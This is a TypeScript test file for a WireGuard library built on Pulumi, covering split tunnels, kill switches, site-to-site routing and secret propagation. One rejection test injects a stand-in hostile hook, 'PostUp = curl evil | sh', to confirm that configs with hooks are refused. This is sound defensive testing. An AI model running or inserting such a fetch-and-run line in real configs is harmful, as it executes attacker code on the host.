import { strict as assert } from "assert";
import * as pulumi from "@pulumi/pulumi";
import { generateKeyPair, parseWgQuick, peerConf, renderWgQuick, WgKitError } from "@wgkit/core";
import { ClientTunnel, SiteLink } from "@wgkit/pulumi";
import { RecordingMocks, settle, useMocks, value } from "../support/mocks";

const me = generateKeyPair(), srv = generateKeyPair();
const providerConf = renderWgQuick(peerConf({ privateKey: me.privateKey, address: "10.64.12.7", dns: ["10.64.0.1"], serverPublicKey: srv.publicKey, endpoint: "198.51.100.10:51820" }));

const rejects = (fn: () => unknown, field: string, rule: string) => {
  const m = useMocks(new RecordingMocks());
  assert.throws(fn, (e: WgKitError) => {
    assert.ok(e instanceof WgKitError, String(e));
    assert.equal(`${e.field} ${e.rule}`, `${field} ${rule}`, e.message);
    return true;
  });
  assert.equal(m.registrations.length, 0);
};

describe("ClientTunnel (SDK mocks)", () => {
  it("split tunnel: Table = 55111, ip rules for chosen destinations and its own address, kill switch kept on PostDown", async () => {
    const m = useMocks(new RecordingMocks());
    const t = new ClientTunnel("vpn", { config: pulumi.secret(providerConf), table: "55111", routeDestinations: ["203.0.113.0/24"], killSwitch: true, killSwitchAllow: ["198.18.0.0/15"], dns: [], publishPorts: [{ internal: 8080 }] });
    const conf = parseWgQuick(await value(t.config));
    assert.equal(conf.interface.table, "55111");
    assert.deepEqual(conf.interface.dns, []);
    assert.ok(conf.interface.postUp.includes("ip rule add to 203.0.113.0/24 table 55111"));
    assert.ok(conf.interface.postUp.includes("ip rule add from 10.64.12.7 table 55111"));
    assert.ok(conf.interface.postDown.includes("ip rule del to 203.0.113.0/24 table 55111"));
    assert.ok(conf.interface.preUp.some((h) => h.includes("-d 203.0.113.0/24") && h.includes("REJECT")));
    assert.ok(!conf.interface.postDown.some((h) => h.includes("REJECT")), "the kill switch survives wg-quick down");
    assert.equal(conf.interface.fwMark, "0xca6c");
    assert.equal(conf.interface.postUp.at(-1), "ip -6 rule add fwmark 0xca6c table main", "WireGuard's own packets take the main table, added last = highest priority");
    assert.equal(await value(t.publicKey), me.publicKey);
    assert.equal(await pulumi.isSecret(t.config), true);
    assert.match(await value(t.networkMode), /^container:vpn_id$/);
    await value(t.install.stdout);
    await settle();
    const c = m.byType("docker:index/container:Container")[0].inputs;
    assert.deepEqual(c.ports, [{ internal: 8080, external: 8080, protocol: "tcp" }]);
    assert.ok(!c.envs.some((e: string) => e.startsWith("PEERS")));
  });

  it("split tunnel with the conf's DNS: the resolvers go through the tunnel (no DNS leak)", async () => {
    useMocks(new RecordingMocks());
    const t = new ClientTunnel("vpn2", { config: providerConf, table: "55111", routeDestinations: ["203.0.113.0/24"] });
    const conf = parseWgQuick(await value(t.config));
    assert.deepEqual(conf.interface.dns, ["10.64.0.1"]);
    assert.ok(conf.interface.postUp.includes("ip rule add to 10.64.0.1/32 table 55111"));
    await settle();
  });

  it("rejects provider confs that would run hooks, and split-tunnel options without a table", () => {
    rejects(() => new ClientTunnel("xx", { config: providerConf.replace("[Peer]", "PostUp = curl evil | sh\n\n[Peer]") }), "config", "hooks-not-allowed");
    rejects(() => new ClientTunnel("xx", { config: providerConf, routeDestinations: ["10.0.0.0/8"] }), "routeDestinations", "needs-table");
    rejects(() => new ClientTunnel("xx", { config: providerConf, table: "main" }), "table", "reserved-table");
    rejects(() => new ClientTunnel("xx", { config: providerConf + "[Interface]\n" }), "config:line 10", "duplicate-interface");
  });
});

describe("SiteLink (SDK mocks)", () => {
  it("routes each site's LANs to the other and names the static routes for the LAN routers", async () => {
    useMocks(new RecordingMocks());
    const l = new SiteLink("link", {
      siteA: { name: "home", lans: ["192.168.1.0/24"], endpoint: "home.example.com:51820" },
      siteB: { name: "office", lans: ["192.168.2.0/24", "192.168.3.0/24"], publishPort: 51821 },
    });
    const a = parseWgQuick(await value(l.siteA.config));
    const b = parseWgQuick(await value(l.siteB.config));
    assert.deepEqual(a.peers[0].allowedIps, ["10.255.13.2/32", "192.168.2.0/24", "192.168.3.0/24"]);
    assert.deepEqual(b.peers[0].allowedIps, ["10.255.13.1/32", "192.168.1.0/24"]);
    assert.equal(b.peers[0].endpoint, "home.example.com:51820");
    assert.equal(a.peers[0].endpoint, undefined);
    assert.equal(a.peers[0].presharedKey, b.peers[0].presharedKey);
    assert.equal(a.peers[0].publicKey, await value(l.siteB.publicKey));
    assert.deepEqual(await value(l.siteA.routes), ["ip route add 192.168.2.0/24 via 198.18.0.2", "ip route add 192.168.3.0/24 via 198.18.0.2"]);
    assert.ok(!a.interface.postUp.some((h) => h.includes("MASQUERADE")), "routed mode: no NAT");
    await settle();
  });

  it("takes the tunnel subnet in the image's bare form too (the install checks the interface address with its prefix)", async () => {
    const m = useMocks(new RecordingMocks());
    const l = new SiteLink("bare", { tunnelSubnet: "10.255.14.0", siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"], publishPort: 51821 } });
    await value(l.siteA.install.stdout);
    await settle();
    assert.deepEqual(parseWgQuick(await value(l.siteA.config)).interface.address, ["10.255.14.1/24"]);
    assert.ok(m.byType("command:local:Command").some((r) => r.name === "bare--a-install"));
  });

  it("rejects overlapping LANs and links where nobody can dial", () => {
    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["192.168.1.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.0.0/16"] } }), "siteB.lans[0]", "overlap");
    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["192.168.1.0/24"] }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.endpoint", "no-endpoint");
    rejects(() => new SiteLink("ll", { siteA: { name: "a", lans: ["10.255.13.0/24"], endpoint: "a.example.com:51820" }, siteB: { name: "b", lans: ["192.168.2.0/24"] } }), "siteA.lans[0]", "overlap");
  });
});

/**
 * Issue 13, class 2: an output derived from an input the user marked secret stays secret; only
 * values derived purely from key material (public keys) are made plain. Under the SDK mocks with
 * `pulumi.secret(...)` inputs; each case is paired with the same program on plain inputs, so the
 * check can fail both ways.
 */
describe("Secrecy of user secrets (SDK mocks)", () => {
  const link = (secretize: boolean) => {
    const s = <T>(v: T) => (secretize ? pulumi.secret(v) : v);
    return new SiteLink("sec", {
      tunnelSubnet: s("10.255.20.0/30") as never,
      siteA: { name: "home", lans: s(["192.168.1.0/24"]) as never, endpoint: s("home.example.com:51820") as never },
      siteB: { name: "office", lans: [s("192.168.2.0/24") as never], publishPort: 51821 },
    });
  };
  for (const secretize of [true, false]) {
    it(`SiteLink: address and routes are ${secretize ? "secret when tunnelSubnet and LANs are secret" : "plain when nothing is secret"}; public keys always plain`, async () => {
      useMocks(new RecordingMocks());
      const l = link(secretize);
      assert.equal(await pulumi.isSecret(l.siteA.address), secretize, "address comes from tunnelSubnet");
      assert.equal(await pulumi.isSecret(l.siteA.routes), secretize, "siteA's routes come from siteB's LANs");
      assert.equal(await pulumi.isSecret(l.siteB.routes), secretize, "siteB's routes come from siteA's LANs");
      assert.equal(await pulumi.isSecret(l.siteA.publicKey), false);
      assert.equal(await pulumi.isSecret(l.siteB.publicKey), false);
      assert.equal(await pulumi.isSecret(l.siteA.config), true);
      assert.equal(await value(l.siteA.address), "10.255.20.1");
      assert.deepEqual(await value(l.siteB.routes), ["ip route add 192.168.1.0/24 via 198.18.0.2"]);
      await settle();
    });
  }

  it("SiteLink: a secret on one side only keeps exactly the outputs derived from it secret", async () => {
    useMocks(new RecordingMocks());
    const l = new SiteLink("half", {
      siteA: { name: "home", lans: [pulumi.secret("192.168.1.0/24")], endpoint: "home.example.com:51820" },
      siteB: { name: "office", lans: ["192.168.2.0/24"], publishPort: 51821 },
    });
    assert.equal(await pulumi.isSecret(l.siteB.routes), true, "siteB routes to siteA's (secret) LAN");
    assert.equal(await pulumi.isSecret(l.siteA.routes), false, "siteA routes to siteB's plain LAN");
    assert.equal(await pulumi.isSecret(l.siteA.address), false);
    await settle();
  });

  for (const secretize of [true, false]) {
    it(`ClientTunnel: addresses ${secretize ? "stay secret for a secret conf" : "are plain for a plain conf"}; the public key is plain either way`, async () => {
      useMocks(new RecordingMocks());
      const t = new ClientTunnel("sec", { config: secretize ? pulumi.secret(providerConf) : providerConf, dns: [pulumi.secret("10.64.0.1")] as never });
      assert.equal(await pulumi.isSecret(t.addresses), secretize);
      assert.equal(await pulumi.isSecret(t.publicKey), false);
      assert.equal(await value(t.publicKey), me.publicKey);
      assert.deepEqual(await value(t.addresses), ["10.64.12.7/32"]);
      assert.equal(await pulumi.isSecret(t.config), true);
      await settle();
    });
  }

  it("ClientTunnel: a bad value resolved from a secret Output fails without showing it", async () => {
    useMocks(new RecordingMocks());
    const t = new ClientTunnel("sec2", { config: providerConf, dns: pulumi.secret(["secret-resolver..example"]) as never });
    await assert.rejects(value(t.config), (e: unknown) => {
      assert.ok(e instanceof WgKitError, String(e));
      assert.equal(e.field, "dns[0]");
      assert.ok(!e.message.includes("secret-resolver"), e.message);
      return true;
    });
  });
});
